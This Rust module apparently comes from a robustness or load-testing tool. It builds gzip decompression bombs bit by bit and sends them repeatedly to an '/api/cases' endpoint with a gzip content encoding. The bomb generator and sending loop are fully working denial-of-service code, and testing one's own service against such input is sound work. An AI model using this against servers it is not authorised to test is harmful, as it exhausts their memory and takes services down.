use super::caller::{Caller, json};
use super::front::Client;
use crate::body::Payload;
use bytes::Bytes;
use http::{HeaderValue, header};
use std::sync::{Arc, LazyLock};
use std::time::Duration;

const PAUSE: Duration = Duration::from_millis(100);

/// One that unpacks to 170 MB, and one to 1.5 GB.
static BOMBS: LazyLock<Arc<Vec<Bytes>>> = LazyLock::new(|| Arc::new(vec![bomb(1 << 20), bomb(9 << 20)]));

pub(super) fn bombs() -> Arc<Vec<Bytes>> {
    Arc::clone(&BOMBS)
}

/// Sends packed bodies.
pub(super) async fn run(client: Client, bombs: Arc<Vec<Bytes>>) {
    let mut caller = Caller::new(client);
    for bomb in bombs.iter().cycle() {
        let Some(mut request) = json("/api/cases", Payload::whole(bomb.clone())) else { return };
        request.headers_mut().insert(header::CONTENT_ENCODING, HeaderValue::from_static("gzip"));
        if caller.ask(request).await.is_some() {
            caller.client.tally.sent(bomb.len());
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// A gzip file (RFC 1952) of about `size` bytes: one block of fixed codes (RFC 1951, 3.2.6), a `[` and then nothing but
/// repetitions of the 258 bytes before, each in 13 bits.
fn bomb(size: usize) -> Bytes {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], free: 0 };
    bits.push(&[1, 1, 0]);
    // `[` is 0x5b: the code 0x30 + 0x5b in 8 bits.
    bits.push(&[1, 0, 0, 0, 1, 0, 1, 1]);
    while bits.bytes.len() < size {
        // The code 285, the longest length, and the distance 1.
        bits.push(&[1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]);
    }
    bits.push(&[0; 7]);
    Bytes::from(bits.bytes)
}

struct Bits {
    bytes: Vec<u8>,
    /// Bits that the last byte has left.
    free: u32,
}

impl Bits {
    /// From the lowest bit of each byte upward.
    fn push(&mut self, bits: &[u8]) {
        for bit in bits {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = 8;
            }
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << (8 - self.free);
            }
            self.free -= 1;
        }
    }
}
